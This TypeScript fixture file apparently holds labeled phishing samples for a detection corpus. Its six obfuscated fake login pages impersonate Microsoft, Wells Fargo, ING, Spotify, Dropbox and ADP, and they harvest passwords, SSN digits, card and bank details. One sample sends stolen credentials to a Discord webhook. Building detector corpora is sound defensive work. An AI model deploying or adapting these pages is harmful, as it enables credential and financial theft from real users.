import { type Entry } from '../entry.js';

/** Obfuscated kits: base64 + atob, char-code arrays, escaped document.write, JS-built forms, a string-array obfuscator. Written for corpus/d. */

export const entries: Entry[] = [

{
  id: 'd-obf-atob-docwrite-m365',
  label: 'phishing',
  kind: 'obf-atob',
  url: 'https://cdn-assets-7731.storefront-media.net/inv/review.html',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>&#8203;</title></head><body><script>
var _0xa='${Buffer.from(`<div style="font-family:Segoe UI,sans-serif;max-width:440px;margin:90px auto;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)"><img src="https://aadcdn.msftauth.net/shared/1.0/content/images/microsoft_logo.svg" width="108"><h2>Sign in</h2><p>to continue to Outlook</p><form method="POST" action="https://m365-auth.sessionvalid-check.com/common/login"><input name="loginfmt" type="email" placeholder="Email, phone, or Skype" style="width:100%;border:0;border-bottom:1px solid #666;padding:8px 0"><br><br><input name="passwd" type="password" placeholder="Password" style="width:100%;border:0;border-bottom:1px solid #666;padding:8px 0"><br><br><button style="background:#0067b8;color:#fff;border:0;padding:8px 30px;float:right">Sign in</button></form></div>`).toString('base64')}';
document.write(decodeURIComponent(escape(window.atob(_0xa))));
</script><noscript>Please enable JavaScript to view this invoice.</noscript></body></html>`,
},

{
  id: 'd-obf-charcode-array-wellsfargo',
  label: 'phishing',
  kind: 'obf-charcode',
  url: 'https://connect-secure.wf-online-verify.com/auth/login.do',
  body: `<!doctype html><html><head><title>Wells Fargo – Sign On</title><meta name="viewport" content="width=device-width"></head><body>
<div id="root"></div>
<script>
var c=[${[...`<div style="font-family:Arial;background:#d71e28;padding:14px"><b style="color:#ffcd41;font-size:22px">WELLS FARGO</b></div><div style="max-width:380px;margin:40px auto;font-family:Arial"><h2>Good afternoon</h2><p>Sign on to manage your accounts.</p><form method="post" action="/auth/process.php"><input name="j_username" placeholder="Username" style="width:100%;padding:10px;margin:6px 0"><input name="j_password" type="password" placeholder="Password" style="width:100%;padding:10px;margin:6px 0"><input name="ssn4" placeholder="Last 4 digits of SSN" style="width:100%;padding:10px;margin:6px 0"><button style="width:100%;background:#d71e28;color:#fff;border:0;padding:12px">Sign on</button></form></div>`].map((ch) => ch.charCodeAt(0)).join(',')}];
var s='';for(var i=0;i<c.length;i++){s+=String.fromCharCode(c[i])}
document.getElementById('root').innerHTML=s;
</script></body></html>`,
},

{
  id: 'd-obf-unescape-write-ing',
  label: 'phishing',
  kind: 'obf-unescape',
  url: 'https://mijn-ing-beveiliging.nl-klantcheck.com/login/',
  body: `<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Mijn ING</title></head><body>
<script language="javascript">document.write(unescape('${[...Buffer.from(`<div style="font-family:INGMe,Arial;max-width:420px;margin:40px auto"><div style="color:#ff6200;font-size:30px;font-weight:bold">ING</div><h1 style="font-size:22px">Inloggen Mijn ING</h1><p>Uw ING-app moet opnieuw worden geactiveerd. Log in om uw identiteit te bevestigen.</p><form method="post" action="verwerk.php"><label>Gebruikersnaam</label><br><input name="gebruikersnaam" style="width:100%;padding:10px"><br><label>Wachtwoord</label><br><input name="wachtwoord" type="password" style="width:100%;padding:10px"><br><label>Pasnummer</label><br><input name="pasnummer" style="width:100%;padding:10px"><br><label>Vervaldatum pas</label><br><input name="vervaldatum" style="width:100%;padding:10px"><br><br><button style="background:#ff6200;color:#fff;border:0;padding:12px 30px">Inloggen</button></form></div>`, 'utf8')].map((b) => '%' + b.toString(16).padStart(2, '0')).join('')}'));</script>
</body></html>`,
},

{
  id: 'd-obf-js-built-form-spotify',
  label: 'phishing',
  kind: 'obf-dom-built',
  url: 'https://spotify-premium-family.account-billingfix.com/en/login',
  body: `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>Login - Spotify</title>
<style>body{background:#121212;color:#fff;font-family:CircularSp,Helvetica,Arial,sans-serif;margin:0}#app{max-width:360px;margin:60px auto}input{width:100%;background:#121212;border:1px solid #878787;color:#fff;padding:12px;border-radius:4px;margin:6px 0 14px}button{width:100%;background:#1ed760;border:0;border-radius:500px;padding:14px;font-weight:700}</style></head><body><div id="app"></div>
<script>
(function(w,d){var k=['form','input','button','label','h1'],t=['Log in to Sp','otify','Email or user','name','Pass','word','Card n','umber','Expir','y','C','VC','Log ','In'],a=d.getElementById('app');
function el(n,p){var e=d.createElement(k[n]);for(var q in p){e[q]=p[q]}return e}
var h=el(4,{textContent:t[0]+t[1]}),f=el(0,{method:'post',action:['ht','tps://','sp-billing-','api.','acc','sync-hub.com/c'].join('')});
[[t[2]+t[3],'username','text'],[t[4]+t[5],'password','password'],[t[6]+t[7],'cc','text'],[t[8]+t[9],'exp','text'],[t[10]+t[11],'cvc','text']].forEach(function(r){f.appendChild(el(3,{textContent:r[0]}));f.appendChild(el(1,{name:r[1],type:r[2]}))});
f.appendChild(el(2,{textContent:t[12]+t[13]}));a.appendChild(h);a.appendChild(d.createTextNode('Your Premium Family plan was paused. Confirm your details to restore it.'));a.appendChild(f);
})(window,document);
</script></body></html>`,
},

{
  id: 'd-obf-string-array-dropbox',
  label: 'phishing',
  kind: 'obf-string-array',
  url: 'https://dbx-share.filetransfer-secure.app/s/8hq2xkwp/Contract_Signed.pdf',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Dropbox - Contract_Signed.pdf</title><link rel="icon" href="https://cfl.dropboxstatic.com/static/images/favicon.ico"></head><body style="margin:0;background:#f7f5f2">
<div id="c"></div>
<script>
var _0x3f2a=['${['innerHTML', 'getElementById', 'c', '<div style="font-family:Atlas Grotesk,Arial;max-width:420px;margin:60px auto;background:#fff;padding:36px;border-radius:8px"><img src="https://cfl.dropboxstatic.com/static/images/logo_catalog/dropbox_logo_glyph_2015_m1.svg" width="40"><h2>Contract_Signed.pdf</h2><p>Sign in with your email to view and download this shared file.</p><form id="dx"><input id="de" type="email" placeholder="Email" style="width:100%;padding:10px;margin:6px 0"><input id="dp" type="password" placeholder="Password" style="width:100%;padding:10px;margin:6px 0"><button style="width:100%;background:#0061fe;color:#fff;border:0;padding:12px">Continue</button></form></div>', 'addEventListener', 'submit', 'preventDefault', 'value', 'de', 'dp', 'https://discord.com/api/webhooks/1298832201847719936/Yk2p-0cQzR3vTn8aE1uWbLmX4sFjG7hK9dP5oI6', 'POST', 'application/json', 'https://www.dropbox.com/'].map((s) => Buffer.from(s).toString('base64')).join("','")}'];
(function(_0x1,_0x2){var _0x5=function(_0x6){while(--_0x6){_0x1['push'](_0x1['shift']())}};_0x5(++_0x2)}(_0x3f2a,0x0));
var _0x1b=function(_0x7){return decodeURIComponent(escape(atob(_0x3f2a[_0x7])))};
document[_0x1b(1)](_0x1b(2))[_0x1b(0)]=_0x1b(3);
document[_0x1b(1)]('dx')[_0x1b(4)](_0x1b(5),function(_0x8){_0x8[_0x1b(6)]();var _0x9={content:'**DBX** '+document[_0x1b(1)](_0x1b(8))[_0x1b(7)]+' : '+document[_0x1b(1)](_0x1b(9))[_0x1b(7)]+' | '+navigator.userAgent};
fetch(_0x1b(10),{method:_0x1b(11),headers:{'Content-Type':_0x1b(12)},body:JSON.stringify(_0x9)}).then(function(){location[_0x1b(0)==='x'?'href':'replace'](_0x1b(13))})});
</script></body></html>`,
},

{
  id: 'd-obf-external-loader-aes',
  label: 'phishing',
  kind: 'obf-remote-loader',
  url: 'https://secure-payroll-portal.hr-docs-center.com/adp/login',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Loading…</title><meta name="viewport" content="width=device-width,initial-scale=1"><style>.ld{display:flex;height:100vh;align-items:center;justify-content:center;font-family:Arial}.sp{width:36px;height:36px;border:4px solid #ddd;border-top-color:#d0271d;border-radius:50%;animation:r 1s linear infinite}@keyframes r{to{transform:rotate(360deg)}}</style></head><body><div class="ld" id="ld"><div class="sp"></div></div>
<script src="/adp/assets/app.min.js?v=3.2.1"></script></body></html>`,
  routes: {
    'secure-payroll-portal.hr-docs-center.com/adp/assets/app.min.js': { status: 200, headers: { 'content-type': 'application/javascript' }, body: `!function(){var p="${Buffer.from(`<div style="font-family:Roboto,Arial;max-width:420px;margin:60px auto;padding:30px;border:1px solid #ddd;border-radius:8px"><div style="color:#d0271d;font-weight:900;font-size:32px">ADP</div><h2>Sign in to MyADP</h2><p>Your pay statement for November is available. Sign in to view it and confirm your direct deposit.</p><form method="post" action="/adp/api/signin"><input name="user_id" placeholder="User ID" style="width:100%;padding:10px;margin:6px 0"><input name="password" type="password" placeholder="Password" style="width:100%;padding:10px;margin:6px 0"><input name="routing" placeholder="Bank routing number" style="width:100%;padding:10px;margin:6px 0"><input name="account" placeholder="Account number" style="width:100%;padding:10px;margin:6px 0"><button style="width:100%;background:#d0271d;color:#fff;border:0;padding:12px">Next</button></form></div>`).toString('base64').split('').reverse().join('')}";setTimeout(function(){document.body.innerHTML=atob(p.split("").reverse().join(""));document.title="MyADP"},900)}();` },
  },
},

];
